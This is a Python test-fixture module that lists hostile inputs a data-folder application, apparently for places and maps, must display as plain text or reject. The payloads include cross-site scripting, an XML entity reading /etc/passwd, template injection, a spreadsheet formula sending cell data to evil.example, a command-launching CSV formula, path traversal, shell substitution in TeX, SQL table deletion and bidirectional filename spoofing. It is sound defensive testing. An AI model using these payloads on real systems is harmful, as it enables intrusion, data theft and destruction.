"""What hostile data try. Each is put into every text of a data folder, or into the one place where it could work."""

from __future__ import annotations

TEXTS = {
    "script": "<script>window.pwned=1</script>",
    "handler": '<img src=x onerror="window.pwned=1">',
    "attribute": '" autofocus onfocus="window.pwned=1" x="',
    "single quotes": "' onmouseover='window.pwned=1",
    "svg": "<svg/onload=window.pwned=1>",
    "frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "end of comment": "--><script>window.pwned=1</script><!--",
    "end of script": '"}]</script><script>window.pwned=1</script>',
    "end of CDATA": ']]><script xmlns="http://www.w3.org/1999/xhtml">window.pwned=1</script>',
    "XML entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "template expression": "{{7*7}}{{cycler.__init__.__globals__.os.getpid()}}",
    "template statement": "{% for x in range(9) %}{{x}}{% endfor %}{# gone",
    "template literal": "${window.pwned=1}`+(window.pwned=1)+`",
    "javascript address": "javascript:window.pwned=1",
    "data address": "data:text/html,<script>window.pwned=1</script>",
    "foreign address": "//evil.example/x.png",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "command in a formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "escaped twice": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "percent": "%3Cscript%3Ewindow.pwned=1%3C/script%3E%0d%0aSet-Cookie:%20a=b",
    "calendar line": "x\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:forged",
    "path": "../../../../etc/passwd",
    "TeX": "\\input{/etc/passwd}$(id)`id`",
    "Markdown": "[x](javascript:window.pwned=1) ![x](//evil.example/x.png)",
    "SQL": "'; DROP TABLE places; --",
    "prototype": "__proto__",
    "line separator": "a\u2028window.pwned=1\u2029b",
    "astral and stacked": "😀𐍈 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚ \U0010fffd",
    "very long": "ж" * 80,
}
"""Texts that the rules of a data folder allow: every door shows them as text."""

HARMLESS = "harmless"

REFUSED_TEXTS = {
    "direction override": "a\u202etxt.exe",
    "direction isolate": "a\u2066b",
    "null": "a\x00b",
    "escape": "a\x1b[2Jb",
    "return": "a\rb",
    "too long": "x" * 10_000_000,
}
"""Texts that the reader refuses, with what it says."""

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/",
    "https://a.example/\"onclick='x'",
    "https://a.example/<script>",
    "https:///x",
    "http://[::1",
    "https://a.example/\u202e",
    " https://a.example/ x",
]
"""Addresses that are none: of sources, licences and pictures."""

IDS = [
    "../x",
    "a/b",
    "a b",
    "A",
    "a--b",
    "-a",
    "<script>",
    "{{7*7}}",
    "con\u0000",
    "..",
    "a.b",
    "é",
    "a%2fb",
    "x" * 4001,
]
"""Ids that are no slugs."""

NUMBERS = ["NaN", "nan", "inf", "-inf", "1e999", "1_0", "0x10", "٣", "1,5", "1e309", "9" * 400, "--1", "1;2"]
"""Longitudes that are no number on the globe."""

WORDS_OF_LANGUAGES = ["constructor", "tostring", "prototype", "valueof", "null", "undefined", "nan", "true", "index"]
"""Sound ids that mean something to a programming language."""
